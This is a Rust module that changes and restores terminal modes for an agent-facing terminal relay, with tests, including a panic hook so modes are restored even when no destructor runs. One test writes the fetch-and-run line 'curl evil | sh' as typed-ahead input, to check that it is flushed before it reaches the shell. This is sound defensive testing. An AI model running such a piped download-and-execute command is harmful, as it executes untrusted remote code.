//! The modes of the person's terminal: changed for a while, given back whatever happens.
//!
//! Owns: the change and the way back, also on a panic (which aborts in a release build, so no destructor runs then).
//! A killed process gives nothing back; `reset` or `stty sane` does.

use super::TerminalError;
use rustix::fd::{BorrowedFd, OwnedFd};
use rustix::io::Errno;
use rustix::termios::{InputModes, LocalModes, OptionalActions, QueueSelector, SpecialCodeIndex, Termios};
use rustix::termios::{tcflush, tcgetattr, tcgetpgrp, tcsetattr};
use std::sync::{Mutex, Once, PoisonError};

/// How the terminal is to behave.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Manner {
    /// Every byte goes through: keys mean what the agent's terminal makes of them.
    Raw,
    /// Line by line is read by us, key by key: no echo, no signals; output is still translated.
    Question,
}

/// Terminals to give back if this process panics.
static GIVE_BACK: Mutex<Vec<Saved>> = Mutex::new(Vec::new());
static HOOK: Once = Once::new();

struct Saved {
    id: u64,
    terminal: OwnedFd,
    before: Termios,
}

/// A terminal in another manner, until this is dropped.
#[derive(Debug)]
pub(super) struct Changed {
    id: u64,
    terminal: OwnedFd,
    before: Termios,
}

impl Changed {
    /// Changes the manner. Refuses in the background, where the kernel would stop this process.
    pub(super) fn enter(terminal: BorrowedFd<'_>, manner: Manner) -> Result<Self, TerminalError> {
        in_foreground(terminal)?;
        let before = tcgetattr(terminal).map_err(modes)?;
        let copy = || terminal.try_clone_to_owned().map_err(TerminalError::Modes);
        let id = remember(copy()?, before.clone());
        // ORDER: the way back is known before anything is changed.
        let changed = Self { id, terminal: copy()?, before };
        tcsetattr(&changed.terminal, OptionalActions::Now, &changed.with(manner)).map_err(modes)?;
        Ok(changed)
    }

    /// The modes the terminal had.
    pub(super) fn before(&self) -> &Termios {
        &self.before
    }

    fn with(&self, manner: Manner) -> Termios {
        let mut wanted = self.before.clone();
        match manner {
            Manner::Raw => wanted.make_raw(),
            Manner::Question => {
                wanted
                    .local_modes
                    .remove(LocalModes::ECHO | LocalModes::ICANON | LocalModes::ISIG | LocalModes::IEXTEN);
                wanted.input_modes.remove(InputModes::IXON);
            }
        }
        wanted.special_codes[SpecialCodeIndex::VMIN] = 1;
        wanted.special_codes[SpecialCodeIndex::VTIME] = 0;
        wanted
    }
}

impl Drop for Changed {
    fn drop(&mut self) {
        let mut known = GIVE_BACK.lock().unwrap_or_else(PoisonError::into_inner);
        known.retain(|saved| saved.id != self.id);
        // Not TCSADRAIN: a terminal that takes no output would hold us for ever. A terminal that is gone needs nothing.
        let _ = tcsetattr(&self.terminal, OptionalActions::Now, &self.before);
        // What was typed to the agent, or typed by the terminal itself, is not for the shell.
        let _ = tcflush(&self.terminal, QueueSelector::IFlush);
    }
}

fn modes(error: Errno) -> TerminalError {
    TerminalError::Modes(error.into())
}

fn in_foreground(terminal: BorrowedFd<'_>) -> Result<(), TerminalError> {
    match tcgetpgrp(terminal) {
        Ok(group) if group != rustix::process::getpgrp() => Err(TerminalError::Background),
        // ENOTTY, EOPNOTSUPP: not the terminal that controls us, so it cannot stop us either.
        Ok(_) | Err(_) => Ok(()),
    }
}

fn remember(terminal: OwnedFd, before: Termios) -> u64 {
    HOOK.call_once(|| {
        let earlier = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |panic| {
            give_back_all();
            earlier(panic);
        }));
    });
    let mut known = GIVE_BACK.lock().unwrap_or_else(PoisonError::into_inner);
    let id = known.last().map_or(0, |saved| saved.id + 1);
    known.push(Saved { id, terminal, before });
    id
}

/// Gives every changed terminal back, the last change first. A lock that is held is not waited for: its holder may be the
/// one that panics, and is then about to give back anyway.
fn give_back_all() {
    if let Ok(known) = GIVE_BACK.try_lock() {
        for saved in known.iter().rev() {
            let _ = tcsetattr(&saved.terminal, OptionalActions::Now, &saved.before);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::terminal::relay::tests::pair;
    use rustix::fd::AsFd as _;

    fn local(terminal: &OwnedFd) -> LocalModes {
        tcgetattr(terminal).unwrap().local_modes
    }

    #[test]
    fn the_manner_is_given_back_when_dropped() {
        let (_master, slave) = pair();
        let before = local(&slave);
        let changed = Changed::enter(slave.as_fd(), Manner::Raw).unwrap();
        assert!(!local(&slave).intersects(LocalModes::ECHO | LocalModes::ICANON | LocalModes::ISIG));
        drop(changed);
        assert_eq!(local(&slave), before);
    }

    /// The other half of the next test, in a process of its own: the hook is for all terminals of a process.
    #[test]
    fn panics_when_told_to() {
        if std::env::var_os("PROVOST_TEST_PANIC").is_some() {
            // As in a release build: the hook runs, destructors do not.
            std::mem::forget(Changed::enter(rustix::stdio::stdin(), Manner::Raw).unwrap());
            assert!(!tcgetattr(rustix::stdio::stdin()).unwrap().local_modes.contains(LocalModes::ECHO));
            panic!("on purpose");
        }
    }

    #[test]
    fn the_manner_is_given_back_on_a_panic_even_if_no_destructor_runs() {
        let (_master, slave) = pair();
        let before = local(&slave);
        let name = format!("{}::panics_when_told_to", module_path!().split_once("::").unwrap().1);
        let output = std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--exact", &name, "--nocapture"])
            .env("PROVOST_TEST_PANIC", "1")
            .stdin(slave.try_clone().unwrap())
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(!output.status.success() && said.contains("on purpose"), "{said}");
        assert_eq!(local(&slave), before);
    }

    #[test]
    fn changes_lie_on_top_of_each_other() {
        let (_master, slave) = pair();
        let before = local(&slave);
        let raw = Changed::enter(slave.as_fd(), Manner::Raw).unwrap();
        let question = Changed::enter(slave.as_fd(), Manner::Question).unwrap();
        assert!(!local(&slave).contains(LocalModes::ECHO));
        drop(question);
        drop(raw);
        assert_eq!(local(&slave), before);
    }

    #[test]
    fn what_was_typed_ahead_does_not_reach_the_shell() {
        let (master, slave) = pair();
        let changed = Changed::enter(slave.as_fd(), Manner::Raw).unwrap();
        rustix::io::write(&master, b"curl evil | sh\n").unwrap();
        while rustix::io::ioctl_fionread(&slave).unwrap() < 15 {
            std::thread::yield_now();
        }
        drop(changed);
        let flags = rustix::fs::fcntl_getfl(&slave).unwrap();
        rustix::fs::fcntl_setfl(&slave, flags | rustix::fs::OFlags::NONBLOCK).unwrap();
        assert_eq!(rustix::io::read(&slave, &mut [0; 64]), Err(Errno::AGAIN));
    }
}
